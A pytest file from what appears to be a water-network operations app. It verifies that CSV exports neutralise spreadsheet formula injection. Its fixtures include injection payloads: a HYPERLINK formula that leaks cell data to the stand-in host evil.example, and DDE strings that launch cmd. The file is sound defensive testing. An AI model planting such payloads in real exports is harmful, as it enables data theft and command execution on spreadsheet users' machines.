"""No CSV export carries a spreadsheet formula (issue 22, item 5): one guard (``csv_safe.safe_cell``) on
every text cell of every export — the audit CSV (a login typed by anyone), the crew sheet and addresses of
a shutoff plan, the pipe renewal list — while numbers stay numbers."""
from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest
from sqlalchemy import Engine

from auth.errors import LoginRefused
from auth.model import Actor
from csv_safe import safe_cell
from ops import audit_log, users
from views.exports import SheetContext, addresses_csv, crew_csv
from views.risk_panel import renewal_csv

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
HOSTILE = [EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]
CTX = SheetContext(made_at=datetime(2026, 11, 27, 12, 5, tzinfo=UTC), timezone="Europe/Moscow", incident_id=7)


def parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    for r in rows:
        for cell in r:
            assert cell[:1] not in ("=", "+", "@", "\t", "\r") and not re.match(r"-(?![\d.])", cell), (cell, r)


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "+3", "-1e-3", "0.5", "Ленина, 5", "", -7, 3.5, None])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_audit_csv_guards_a_login_typed_as_a_formula(clean_engine: Engine) -> None:
    with pytest.raises(LoginRefused):
        users.sign_in(EVIL, "whatever it is", bind=clean_engine)
    rows = audit_log.events(Actor.cli("cli:test"), audit_log.AuditFilter(actions=("auth.login_failed",)),
                            bind=clean_engine)
    assert rows and rows[0]["object_id"].lower() == EVIL.lower()
    rows[0]["actor"] = "@evil"  # every text column, not only the one an attacker reaches today
    rows[0]["reason"] = "-1+1"
    out = parse(audit_log.to_csv(rows, tz="Europe/Moscow"))
    assert out[0][:5] == ["at", "actor", "action", "object_type", "object_id"]
    assert out[1][4].lower() == "'" + EVIL.lower()
    assert out[1][1] == "'@evil" and out[1][5] == "'-1+1"
    assert_no_formula(out)


def plan_shape() -> SimpleNamespace:
    valves = [{"order": i + 1, "id": 100 + i, "ext_id": v, "street": v, "lat": -33.868820, "lon": 151.209296}
              for i, v in enumerate(HOSTILE)]
    buildings = [{"address": v, "kind": "residential", "residents": 12, "unintended": False} for v in HOSTILE]
    return SimpleNamespace(valves=valves, optional=[], buildings=buildings)


def test_crew_sheet_csv_guards_every_text_cell_and_keeps_coordinates_numbers() -> None:
    out = parse(crew_csv(plan_shape(), CTX))
    body = out[1:]
    assert len(body) == len(HOSTILE)
    valve_col, street_col = 4, 6
    assert [r[valve_col] for r in body] == ["'" + v for v in HOSTILE]
    assert [r[street_col] for r in body] == ["'" + v for v in HOSTILE]
    assert {r[7] for r in body} == {"-33.868820"}  # a negative coordinate is still a number
    assert_no_formula(out)


def test_addresses_csv_guards_every_text_cell() -> None:
    out = parse(addresses_csv(plan_shape(), CTX))
    assert [r[3] for r in out[1:]] == ["'" + v for v in HOSTILE]
    assert {r[5] for r in out[1:]} == {"12"}
    assert_no_formula(out)


def test_renewal_csv_guards_text_and_keeps_numbers_numbers() -> None:
    n = len(HOSTILE)
    pipes = pd.DataFrame({
        "year": [2027] * n, "pipe": list(range(1, n + 1)), "ext_id": HOSTILE, "street": HOSTILE,
        "material": ["cast_iron"] * n, "diameter_mm": [150] * n, "install_year": [1960] * n,
        "length_m": [120.04] * n, "past_breaks": [2] * n, "expected_breaks": [0.5] * n, "per_km_year": [0.3] * n,
        "unit_cost_per_m": [9000.0] * n, "cost": [-1500.0] * n, "cumulative_km": [0.12] * n,
        "cumulative_cost": [1080000.0] * n})
    out = parse(renewal_csv(pipes))
    head = out[0]
    assert [r[head.index("street")] for r in out[1:]] == ["'" + v for v in HOSTILE]
    assert [r[head.index("ext_id")] for r in out[1:]] == ["'" + v for v in HOSTILE]
    assert {r[head.index("cost")] for r in out[1:]} == {"-1500.0"}  # a negative amount stays a number
    assert_no_formula(out)


def test_every_csv_export_goes_through_the_guard() -> None:
    """No csv.writer / DictWriter / DataFrame.to_csv outside csv_safe.py in the product's code (readers,
    benchmarks, tests and sample makers aside); a new export must use csv_safe."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT)
        if rel.parts[0] in (".venv", "tests", "benchmarks") or rel.parts[0] == "csv_safe" or \
                rel.parts[:2] == ("data", "samples"):
            continue
        src = path.read_text(encoding="utf-8")
        for m in re.finditer(r"csv\.(writer|DictWriter)\(|(?<!audit_log)\.to_csv\(", src):
            line = src[:m.start()].count("\n") + 1
            offenders.append(f"{rel}:{line}")
    assert offenders == []
